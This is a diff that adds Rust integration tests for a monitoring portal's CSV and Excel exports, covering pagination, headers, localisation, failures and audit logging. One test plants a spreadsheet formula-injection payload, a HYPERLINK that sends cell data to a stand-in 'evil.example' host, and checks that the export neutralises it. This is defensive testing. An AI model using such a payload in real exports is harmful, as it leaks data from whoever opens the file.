@@ -1,0 +1,261 @@
+//! Lists as files: the rows of the page and of all its pages, that no spreadsheet runs.
+
+use std::io::{Cursor, Read as _};
+
+use secmon_portal::simulator::Fault;
+use serde_json::json;
+use wiremock::{
+    Mock, MockServer, ResponseTemplate,
+    matchers::{path_regex, query_param},
+};
+
+use crate::{
+    control::release,
+    support::{ACME, Portal, Visitor},
+};
+
+/// The lines of a CSV file, the head first.
+fn lines(file: &[u8]) -> Vec<Vec<String>> {
+    let text = file
+        .strip_prefix(b"\xef\xbb\xbf")
+        .expect("Excel needs the mark");
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text);
+    let records = reader.records().map(|it| it.expect("is CSV"));
+    records
+        .map(|it| it.iter().map(str::to_owned).collect())
+        .collect()
+}
+
+async fn csv_of(visitor: &mut Visitor, address: &str) -> Vec<Vec<String>> {
+    let file = visitor.download(address).await.expect("comes as a whole");
+    lines(&file)
+}
+
+/// The cells of one column, without the head.
+fn column(lines: &[Vec<String>], title: &str) -> Vec<String> {
+    let place = lines[0].iter().position(|it| it == title);
+    let place = place.unwrap_or_else(|| panic!("{title} in {:?}", lines[0]));
+    lines[1..].iter().map(|line| line[place].clone()).collect()
+}
+
+/// Everything that a file of Excel's holds, as XML.
+fn parts(file: Vec<u8>) -> String {
+    let mut archive = zip::ZipArchive::new(Cursor::new(file)).expect("is a file of Excel's");
+    let mut all = String::new();
+    for index in 0..archive.len() {
+        let mut part = archive.by_index(index).expect("is there");
+        if part.name().expect("a name").starts_with("xl/") {
+            part.read_to_string(&mut all).expect("is text");
+        }
+    }
+    all
+}
+
+#[tokio::test]
+async fn tickets_and_history_hold_every_row_of_every_page_in_order() {
+    let portal = Portal::start().await;
+    let mut viewer = portal.sign_in("viewer").await;
+    let tickets = csv_of(&mut viewer, "/t/acme/tickets.csv").await;
+    assert_eq!(
+        column(&tickets, "Number"),
+        portal.simulator.ticket_ids(ACME)
+    );
+    let page = viewer.get("/t/acme/tickets").await;
+    assert_eq!(column(&tickets, "Name")[..10], page.texts("tbody th.long"));
+    assert_eq!(
+        column(&tickets, "Detected")[0],
+        page.text_of("tbody tr:first-child .when")
+    );
+    let history = csv_of(&mut viewer, "/t/acme/history.csv").await;
+    assert_eq!(history.len(), 1 + 25);
+    assert_eq!(column(&history, "Asked by")[0], "outside the portal");
+    // A word stands in the reader's language and as the API wrote it.
+    let billing = column(&history, "Billing").into_iter();
+    let mut told = billing.zip(column(&history, "Billing (as the API wrote it)"));
+    assert!(told.all(|(told, written)| (told == "Billed") == (written == "YES")));
+}
+
+#[tokio::test]
+async fn events_are_those_of_the_range_that_the_page_shows() {
+    let portal = Portal::start().await;
+    let mut viewer = portal.sign_in("viewer").await;
+    let range = "start=2025-06-08T00:00&end=2025-06-10T12:00";
+    let page = viewer.get(&format!("/t/acme/events?{range}")).await;
+    let there = page.attributes(".files a", "href");
+    assert_eq!(
+        there[0],
+        "/t/acme/events.csv?start=2025-06-08T00:00&end=2025-06-10T12:00"
+    );
+    let total: usize = page
+        .text_of(".pager:first-of-type .pager-total")
+        .split(' ')
+        .nth(2)
+        .and_then(|it| it.parse().ok())
+        .expect("a total");
+    assert!(total > 10, "several pages");
+    let events = csv_of(&mut viewer, &there[0]).await;
+    assert_eq!(events.len() - 1, total);
+    let late = column(&events, "Detected").into_iter();
+    assert!(late.into_iter().all(|it| it.as_str() < "2025-06-10 12:01"
+        && it.as_str() >= "2025-06-08 00:00"
+        && it.ends_with(" KST")));
+    let unreadable = viewer.get("/t/acme/events.csv?start=yesterday").await;
+    assert_eq!(unreadable.status, 422);
+}
+
+#[tokio::test]
+async fn servers_are_those_that_the_filter_shows_in_its_order() {
+    let portal = Portal::start().await;
+    let mut viewer = portal.sign_in("viewer").await;
+    let page = viewer.get("/t/acme/vms?q=db&sort=-name").await;
+    let file = page.attributes(".files a", "href").remove(0);
+    assert_eq!(file, "/t/acme/vms.csv?q=db&sort=-name");
+    let servers = csv_of(&mut viewer, &file).await;
+    assert!(servers.len() > 2);
+    assert_eq!(column(&servers, "ID"), page.ids("table.servers"));
+    let all = csv_of(&mut viewer, "/t/acme/vms.csv").await;
+    let page = viewer.get("/t/acme/vms").await;
+    assert_eq!(column(&all, "ID"), page.ids("table.servers"));
+}
+
+#[tokio::test]
+async fn no_cell_runs_in_a_spreadsheet() {
+    let portal = Portal::start().await;
+    let mut viewer = portal.sign_in("viewer").await;
+    let vm = portal.vms(false, 1).remove(0);
+    let evil = "=HYPERLINK(\"http://evil.example?\"&A1,\"가\")";
+    assert!(portal.simulator.rename_server(ACME, &vm, evil));
+    let servers = csv_of(&mut viewer, "/t/acme/vms.csv").await;
+    assert!(column(&servers, "Name").contains(&format!("'{evil}")));
+    let every = servers.iter().flatten();
+    let runs = |cell: &&String| cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    assert_eq!(every.filter(runs).count(), 0);
+    // Excel's own format says that it is text.
+    let file = viewer.download("/t/acme/vms.xlsx").await.expect("comes");
+    let xml = parts(file);
+    assert!(
+        xml.contains("=HYPERLINK(&quot;http://evil.example?&quot;&amp;A1,&quot;가&quot;)")
+            || xml.contains("=HYPERLINK(\"http://evil.example?\"&amp;A1,\"가\")")
+    );
+    assert!(!xml.contains("<f>"), "a formula");
+}
+
+#[tokio::test]
+async fn a_file_says_what_it_is_and_speaks_the_reader_s_language() {
+    let portal = Portal::start().await;
+    let mut viewer = portal
+        .sign_in("viewer")
+        .await
+        .with_header("accept-language", "ko");
+    let csv = viewer.get("/t/acme/tickets.csv").await;
+    assert_eq!(csv.header("content-type"), Some("text/csv; charset=utf-8"));
+    assert_eq!(
+        csv.header("content-disposition"),
+        Some("attachment; filename=\"secmon-acme-tickets-20250611-1200.csv\"")
+    );
+    assert_eq!(csv.header("cache-control"), Some("no-store"));
+    assert!(
+        csv.text.starts_with("\u{feff}탐지 시각,"),
+        "{}",
+        &csv.text[..80]
+    );
+    let xlsx = viewer.get("/t/acme/tickets.xlsx").await;
+    assert_eq!(
+        xlsx.header("content-type"),
+        Some("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
+    );
+    let xml = parts(xlsx.body.clone());
+    for id in portal.simulator.ticket_ids(ACME) {
+        assert!(xml.contains(&id), "{id} as it is, not rounded");
+    }
+}
+
+#[tokio::test]
+async fn a_list_that_cannot_be_read_is_a_page_and_nothing_is_written_down() {
+    let portal = Portal::start().await;
+    let mut manager = portal.sign_in("manager").await;
+    portal.simulator.set_fault(Some(ACME), Fault::Refused);
+    for list in ["vms", "history", "tickets", "events"] {
+        let page = manager.get(&format!("/t/acme/{list}.csv")).await;
+        assert_eq!(page.status, 502, "{list}");
+        assert!(!page.alert().is_empty());
+    }
+    let log = manager.get("/t/acme/audit?action=exported").await;
+    assert_eq!(log.count("tbody tr"), 0);
+}
+
+#[tokio::test]
+async fn a_list_that_breaks_in_the_middle_is_no_file() {
+    let api = MockServer::start().await;
+    let row = json!({ "ticketId": "12345678901234567", "ticketName": "first" });
+    let first = json!({
+        "header": { "isSuccessful": true, "resultCode": 1, "resultMessage": "" },
+        "count": 2, "next": "x", "previous": null, "results": [row],
+    });
+    let refused =
+        json!({ "header": { "isSuccessful": false, "resultCode": 9, "resultMessage": "no" } });
+    for (number, body) in [("1", first), ("2", refused)] {
+        Mock::given(path_regex("/tickets$"))
+            .and(query_param("page", number))
+            .respond_with(ResponseTemplate::new(200).set_body_json(body))
+            .mount(&api)
+            .await;
+    }
+    Mock::given(path_regex("token"))
+        .respond_with(ResponseTemplate::new(200).set_body_json(
+            json!({ "access_token": "t", "token_type": "Bearer", "expires_in": 86400 }),
+        ))
+        .mount(&api)
+        .await;
+    let portal = Portal::start_with(|it| it.api_base = Some(api.uri())).await;
+    let mut viewer = portal.sign_in("viewer").await;
+    assert!(viewer.download("/t/acme/tickets.csv").await.is_none());
+    assert_eq!(viewer.get("/t/acme/tickets.xlsx").await.status, 502);
+}
+
+#[tokio::test]
+async fn the_audit_log_as_a_file_has_a_line_for_each_item_and_says_that_it_was_taken() {
+    let portal = Portal::start().await;
+    let mut operator = portal.sign_in("operator").await;
+    let vms = portal.vms(true, 2);
+    release(&mut operator, &vms).await;
+    let mut manager = portal.sign_in("manager").await;
+    let page = manager.get("/t/acme/audit?action=control-release").await;
+    let file = page.attributes(".files a", "href").remove(0);
+    let log = csv_of(&mut manager, &file).await;
+    let names = column(&log, "Item");
+    assert_eq!(names.len(), 2);
+    for (vm, told) in vms.iter().zip(&names) {
+        assert!(told.starts_with(&portal.name(vm)), "{told}");
+    }
+    assert_eq!(column(&log, "Asked"), ["Release from monitoring"; 2]);
+    assert!(column(&log, "What to do now")[0].starts_with("Nothing."));
+    // The page's table says the same.
+    let told = page.texts(".outcome tbody td.happened");
+    assert!(
+        column(&log, "What happened")[0].starts_with(&told[0]),
+        "{told:?}"
+    );
+    let taken = manager.get("/t/acme/audit?action=exported").await;
+    assert_eq!(
+        taken.rows("tbody tr")[0][3],
+        "/t/acme/audit.csv?action=control-release"
+    );
+    // All of it: more than a page.
+    let mut site_admin = portal.sign_in("site-admin").await;
+    for _ in 0..60 {
+        portal.sign_in("viewer").await;
+    }
+    let page = site_admin.get("/admin/audit").await;
+    let total: usize = page
+        .text_of(".pager:first-of-type .pager-total")
+        .split(' ')
+        .nth(2)
+        .and_then(|it| it.parse().ok())
+        .expect("a total");
+    let all = csv_of(&mut site_admin, "/admin/audit.csv").await;
+    // One row became two lines; taking it is a row itself.
+    assert_eq!(all.len() - 1, total + 2);
+}
